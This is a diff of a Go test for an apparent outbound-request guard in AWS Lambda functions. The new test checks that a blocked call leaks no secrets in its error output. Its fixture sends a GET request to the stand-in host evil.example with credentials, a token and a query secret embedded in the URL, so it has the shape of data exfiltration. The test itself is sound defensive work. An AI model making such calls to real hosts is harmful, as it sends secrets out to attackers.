@@ -2,10 +2,12 @@ package guard
 
 import (
 	"context"
+	"encoding/json"
 	"testing"
 
 	"github.com/aws/aws-lambda-go/lambdacontext"
 	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
 
 	"github.com/outguard/outguard/policy"
 )
@@ -57,4 +59,20 @@ func TestAlertOfAnInvocation(t *testing.T) {
 
 	guessed := describeCall(policy.Description{}, policy.Decision{Access: "write", Guessed: true})
 	assert.Equal(t, "write (guessed)", guessed.Access)
+}
+
+// What a function can log of an error is what is told, the second time as well.
+func TestABlockedErrorHoldsNoSecret(t *testing.T) {
+	g := newGuard(t, "version: 1\non_violation: block\nwhitelist: []\n")
+	for i := range 2 {
+		const token = "5d41402abc4b2a76b9719d911017c592"
+		err := g.Check(t.Context(), request(t, "GET", "https://u:p4ss@evil.example/"+token+"?k=v4lue"))
+		var blocked *BlockedError
+		require.ErrorAs(t, err, &blocked)
+		assert.Equal(t, "https://evil.example/[masked]", blocked.Alert.Call.URL)
+		text, _ := json.Marshal(blocked)
+		for _, s := range []string{token, "p4ss", "v4lue"} {
+			assert.NotContains(t, string(text)+err.Error(), s, "call %d", i)
+		}
+	}
 }
